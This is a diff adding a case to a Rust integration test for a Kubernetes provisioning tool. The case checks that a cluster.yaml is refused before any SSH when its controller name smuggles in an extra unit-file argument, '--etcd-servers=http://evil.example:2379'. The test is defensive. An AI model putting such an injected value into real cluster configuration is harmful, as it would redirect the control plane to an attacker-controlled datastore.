@@ -153,6 +153,27 @@ fn step_bad_input_changes_nothing(c: &Cluster, tmp: &Path) {
         !o.status.success() && err.contains("spec.networking.serviceCidr"),
         "{err}"
     );
+    // A value that would add an argument to a unit file: refused before any SSH.
+    let injected: String = text
+        .lines()
+        .map(|l| match l.split_once("name: kube-") {
+            Some((indent, _)) => {
+                format!(
+                    "{indent}name: \"{} --etcd-servers=http://evil.example:2379\"",
+                    c.controller
+                )
+            }
+            None => l.to_string(),
+        })
+        .collect::<Vec<_>>()
+        .join("\n");
+    std::fs::write(bad_dir.join("cluster.yaml"), injected).unwrap();
+    let o = kubeup(&["up", "-f", bad_dir.join("cluster.yaml").to_str().unwrap()]);
+    let err = describe(&o);
+    assert!(
+        !o.status.success() && err.contains("spec.controllers[0].name"),
+        "{err}"
+    );
     let listing = c.on_controller_ok("ls /opt/kubeup /etc/kubernetes 2>&1; true");
     assert!(
         listing.contains("No such file"),
